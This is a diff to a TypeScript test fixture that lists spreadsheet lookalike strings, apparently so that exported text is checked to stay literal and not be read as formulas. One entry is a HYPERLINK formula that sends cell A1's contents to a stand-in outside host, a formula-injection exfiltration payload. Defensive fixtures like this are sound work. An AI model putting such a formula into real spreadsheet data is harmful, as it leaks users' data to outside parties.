@@ -1,7 +1,7 @@
 /** Texts that a spreadsheet takes for something else where somebody types them: each must stay the text it is. */
 export const lookalikes: readonly (readonly [text: string, why: string])[] = [
   ['=1+1', 'a formula'],
-  ['=HYPERLINK("https://elsewhere.example/?"&A1,"Open")', 'a formula that tells a cell'],
+  ['=HYPERLINK("https://elsewhere.example/?"&A1,"Open")', 'a formula that sends out a cell'],
   ['=CAPEX.AI_GAP(60,20)', 'a formula that reads like an AI Capex formula'],
   ['+5', 'a number, or a formula'],
   ['+A1', 'a formula'],
